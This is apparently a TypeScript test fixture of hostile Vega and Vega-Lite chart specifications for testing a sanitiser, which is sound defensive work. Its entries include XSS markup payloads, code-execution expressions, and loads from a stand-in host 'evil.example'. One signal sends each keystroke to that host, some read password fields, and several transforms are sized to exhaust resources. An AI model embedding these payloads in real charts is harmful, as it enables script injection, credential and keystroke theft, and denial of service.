import type { HostileSpec } from './hostile-specs.ts';

/**
 * What whole specifications of Vega, and parts of them inside ours, could do: they have loaders, timers, outside
 * sources of events, layouts that never end, and marks out of text.
 */
const evil = 'http://evil.example';
const vega = 'https://vega.github.io/schema/vega/v6.json';

const encoding = {
  x: { field: 'city', type: 'nominal' },
  y: { field: 'amount', type: 'quantitative' },
};
const bar = { mark: 'bar', encoding };

function whole(name: string, parts: Record<string, unknown>): readonly HostileSpec[] {
  return [
    { name: `vega: ${name}`, spec: { $schema: vega, width: 100, height: 100, ...parts } },
    { name: `vega inside ours: ${name}`, spec: { ...bar, ...parts, $schema: vega } },
  ];
}

const values = [{ a: 1 }, { a: 2 }];
const symbol = (update: Record<string, unknown>): Record<string, unknown> => ({
  marks: [{ type: 'symbol', encode: { update } }],
});
const fromRows = (transform: readonly unknown[]): Record<string, unknown> => ({
  data: [{ name: 'rows', values, transform }],
  marks: [{ type: 'symbol', from: { data: 'rows' } }],
});

const wholes: readonly HostileSpec[] = [
  whole('data by address', { data: [{ name: 'd', url: `${evil}/d.json` }] }),
  whole('data by a signal', {
    signals: [{ name: 's', value: `${evil}/s.json` }],
    data: [{ name: 'd', url: { signal: 's' } }],
  }),
  whole('data that is fetched again and again', {
    signals: [{ name: 's', value: 0, on: [{ events: 'timer{10}', update: 's + 1' }] }],
    data: [{ name: 'd', url: { signal: `'${evil}/again?' + s` } }],
  }),
  whole('a map from an address', {
    data: [{ name: 'd', url: `${evil}/w.json`, format: { type: 'topojson', mesh: 'countries' } }],
  }),
  whole('an image', symbol({ url: { value: `${evil}/i.png` } })),
  whole('an image mark', {
    marks: [{ type: 'image', encode: { enter: { url: { value: `${evil}/m.png` } } } }],
  }),
  whole('a link', symbol({ href: { value: `${evil}/l` } })),
  whole('a link into another frame', symbol({ href: { value: evil }, target: { value: '_top' } })),
  whole('a cursor', symbol({ cursor: { value: `url(${evil}/c.cur), auto` } })),
  whole('a fill', symbol({ fill: { value: `url(${evil}/f.svg#p)` } })),
  whole('a fill by signal', symbol({ fill: { signal: `'url(${evil}/f2.svg#p)'` } })),
  whole('a gradient of addresses', {
    ...symbol({
      fill: {
        value: { gradient: 'radial', stops: [{ offset: 0, color: `url(${evil}/g.svg)` }] },
      },
    }),
  }),
  whole('a clip of its own', {
    marks: [{ type: 'group', clip: { path: `M0,0"/><image href="${evil}/clip.png"/><path d="` } }],
  }),
  whole('a path that ends its element', {
    marks: [
      {
        type: 'path',
        encode: { enter: { path: { value: '"/><script>PWN=1</script><path d="' } } },
      },
    ],
  }),
  whole('words that are markup', {
    marks: [
      {
        type: 'text',
        encode: { enter: { text: { value: `<img src="${evil}/t" onerror="PWN=1">` } } },
      },
    ],
  }),
  whole('a font with an address', {
    marks: [
      { type: 'text', encode: { enter: { font: { value: `x; src: url(${evil}/f.woff)` } } } },
    ],
  }),
  whole('a description that is markup', {
    marks: [{ type: 'rect', description: '"><script>PWN=1</script>', aria: true }],
  }),
  whole('events of the window', {
    signals: [
      { name: 's', on: [{ events: 'window:keydown', update: `open('${evil}/?' + event.key)` }] },
    ],
  }),
  whole('events of another element', {
    signals: [
      {
        name: 's',
        on: [{ events: { source: 'input[type=password]', type: 'input' }, update: 'event' }],
      },
    ],
  }),
  whole('a timer', {
    signals: [{ name: 's', on: [{ events: { type: 'timer', throttle: 1 }, update: 'PWN = 1' }] }],
  }),
  whole('a field bound to another element', {
    signals: [{ name: 's', bind: { input: 'text', element: '#password' } }],
  }),
  whole('a field whose name is markup', {
    signals: [{ name: 's', bind: { input: 'text', name: '<img src=x onerror="PWN=1">' } }],
  }),
  whole('choices that are markup', {
    signals: [
      {
        name: 's',
        bind: { input: 'select', options: ['<script>PWN=1</script>'], labels: ['<b>'] },
      },
    ],
  }),
  whole('a signal that reaches for code', {
    signals: [{ name: 's', init: "''.constructor.constructor('PWN=1')()" }],
  }),
  whole('a signal that is told of the view', {
    signals: [{ name: 's', on: [{ events: 'click', update: 'event.vega.view()._loader' }] }],
  }),
  whole('a scale whose name is code', {
    scales: [{ name: 'x"]; PWN=1; ["', type: 'linear', domain: [0, 1], range: 'width' }],
  }),
  whole('a projection of its own', {
    projections: [{ name: 'p', type: 'mercator', fit: { signal: `data('${evil}')` } }],
  }),
  whole('a sequence without end', fromRows([{ type: 'sequence', start: 0, stop: 1e9 }])),
  whole('forces without end', fromRows([{ type: 'force', iterations: 1e9, static: true }])),
  whole('a cloud of words', fromRows([{ type: 'wordcloud', size: [1e5, 1e5], font: evil }])),
  whole('a cross of all with all', fromRows(Array.from({ length: 20 }, () => ({ type: 'cross' })))),
  whole('a contour of a billion cells', fromRows([{ type: 'contour', size: [3e4, 3e4] }])),
  whole('a heat map of a billion pixels', fromRows([{ type: 'kde2d', size: [3e4, 3e4] }])),
  whole('a grid round the world', fromRows([{ type: 'graticule', step: [0.001, 0.001] }])),
  whole('a tree of itself', fromRows([{ type: 'stratify', key: 'a', parentKey: 'a' }])),
  whole('a pack of circles', fromRows([{ type: 'nest', keys: ['a'] }, { type: 'pack' }])),
  whole('a Voronoi of nothing', fromRows([{ type: 'voronoi', x: 'a', y: 'a', size: [1e9, 1e9] }])),
  whole(
    'a bin of a billionth',
    fromRows([{ type: 'bin', field: 'a', extent: [0, 1], step: 1e-9 }]),
  ),
  whole(
    'a formula that reaches out',
    fromRows([{ type: 'formula', as: 'b', expr: 'fetch(datum.a)' }]),
  ),
  whole('a lookup in data from an address', {
    data: [
      { name: 'far', url: `${evil}/far.csv` },
      {
        name: 'rows',
        values,
        transform: [{ type: 'lookup', from: 'far', key: 'a', fields: ['a'] }],
      },
    ],
  }),
  whole('a legend with a link', {
    legends: [{ fill: 'x', encode: { labels: { update: { href: { value: evil } } } } }],
  }),
  whole('an axis with an image', {
    axes: [{ orient: 'left', scale: 'y', encode: { ticks: { update: { url: { value: evil } } } } }],
  }),
  whole('layers of groups', {
    marks: Array.from({ length: 40 })
      .reduce<readonly unknown[]>(
        (inner) => [
          { type: 'group', marks: inner },
          { type: 'group', marks: inner },
        ],
        [],
      )
      .slice(0, 1),
  }),
].flat();

/** In the notation of ours, at places that only one of the older reports went through. */
const inOurs: readonly HostileSpec[] = [
  {
    name: 'params: a name of the page',
    spec: { ...bar, params: [{ name: 'window', expr: 'window.PWN' }] },
  },
  {
    name: 'params: an input with markup as its label',
    spec: {
      ...bar,
      params: [
        { name: 'p', value: 1, bind: { input: 'range', name: '<img src=x onerror="PWN=1">' } },
      ],
    },
  },
  {
    name: 'params: options that are markup',
    spec: {
      ...bar,
      params: [{ name: 'p', value: 1, bind: { input: 'radio', options: ['<svg onload=PWN=1>'] } }],
    },
  },
  {
    name: 'params: a view of all views',
    spec: { ...bar, params: [{ name: 'p', select: 'interval', views: [`${evil}/v`] }] },
  },
  {
    name: 'geographic channels',
    spec: {
      mark: 'circle',
      encoding: { longitude: { field: 'amount' }, latitude: { field: 'amount' } },
    },
  },
  {
    name: 'a map with a projection by expression',
    spec: { mark: 'geoshape', projection: { type: { expr: 'PWN' } }, encoding },
  },
  {
    name: 'a text mark with a link',
    spec: { mark: { type: 'text', text: 'click', href: `${evil}/text` }, encoding },
  },
  {
    name: 'a text mark with a font from an address',
    spec: { mark: { type: 'text', text: 'x', font: `url(${evil}/x.woff2)` }, encoding },
  },
  {
    name: 'an aspect of an image by condition',
    spec: {
      mark: { type: 'image' },
      encoding: { ...encoding, url: { condition: { test: 'true', value: `${evil}/q.png` } } },
    },
  },
  {
    name: 'a shape that is a path with markup',
    spec: { mark: { type: 'point', shape: `M0,0"/><image href="${evil}/p.png"` }, encoding },
  },
  {
    name: 'a stroke of an address in a selection',
    spec: {
      ...bar,
      params: [{ name: 'p', select: { type: 'interval', mark: { fill: `url(${evil}/b)` } } }],
    },
  },
  {
    name: 'a colour out of a style variable',
    spec: { ...bar, mark: { type: 'bar', fill: `var(--x, url(${evil}/var.svg))` } },
  },
  {
    name: 'an image set as a colour',
    spec: { ...bar, mark: { type: 'bar', fill: `image-set("${evil}/set.png" 1x)` } },
  },
  {
    name: 'a background with a style',
    spec: { ...bar, view: { style: 'x', cursor: `url(${evil}/v)` } },
  },
  {
    name: 'a locale of its own',
    spec: {
      ...bar,
      config: { locale: { number: `${evil}/number.json`, time: `${evil}/time.json` } },
    },
  },
  {
    name: 'a tooltip that is an object with an image',
    spec: { ...bar, mark: { type: 'bar', tooltip: { expr: `{image: '${evil}/tip.png'}` } } },
  },
  {
    name: 'a tooltip field called image',
    spec: {
      ...bar,
      transform: [{ calculate: `'${evil}/made.png'`, as: 'image' }],
      mark: { type: 'bar', tooltip: { content: 'data' }, url: evil },
    },
  },
  {
    name: 'options for embedding without usermeta',
    spec: { ...bar, embedOptions: { actions: true, ast: false, loader: { baseURL: evil } } },
  },
  {
    name: 'options for embedding beside others',
    spec: {
      ...bar,
      usermeta: { other: 1, embedOptions: { expr: {}, loader: { target: '_top' } } },
    },
  },
  {
    name: 'usermeta deep in a facet',
    spec: {
      facet: { field: 'city' },
      spec: { ...bar, usermeta: { embedOptions: { patch: `${evil}/deep.json` } } },
    },
  },
  {
    name: 'a title of one hundred lines of markup',
    spec: { ...bar, title: Array.from({ length: 100 }, () => '<img src=x onerror="PWN=1">') },
  },
  {
    name: 'an endless name of a field',
    spec: { ...bar, encoding: { ...encoding, color: { field: 'x'.repeat(1e6) } } },
  },
  {
    name: 'an endless domain',
    spec: {
      ...bar,
      encoding: {
        ...encoding,
        x: { field: 'city', scale: { domain: Array.from({ length: 1e6 }, (_, at) => `c${at}`) } },
      },
    },
  },
  {
    name: 'ticks at a million values',
    spec: {
      ...bar,
      encoding: {
        ...encoding,
        y: { field: 'amount', axis: { values: Array.from({ length: 1e6 }, (_, at) => at) } },
      },
    },
  },
  {
    name: 'a window as wide as a billion',
    spec: {
      ...bar,
      transform: [{ window: [{ op: 'sum', field: 'amount', as: 's' }], frame: [-1e9, 1e9] }],
    },
  },
  {
    name: 'a pivot into a million columns',
    spec: { ...bar, transform: [{ pivot: 'city', value: 'amount', limit: 1e6 }] },
  },
  {
    name: 'a regression of the thousandth order',
    spec: { ...bar, transform: [{ regression: 'amount', on: 'at', method: 'poly', order: 1_000 }] },
  },
  {
    name: 'a lookup in a selection',
    spec: { ...bar, transform: [{ lookup: 'city', from: { param: 'window', key: 'city' } }] },
  },
  {
    name: 'a repeat over layers',
    spec: { repeat: { layer: Array.from({ length: 1_000 }, () => 'amount') }, spec: bar },
  },
];

export const hostileVega: readonly HostileSpec[] = [...wholes, ...inOurs];
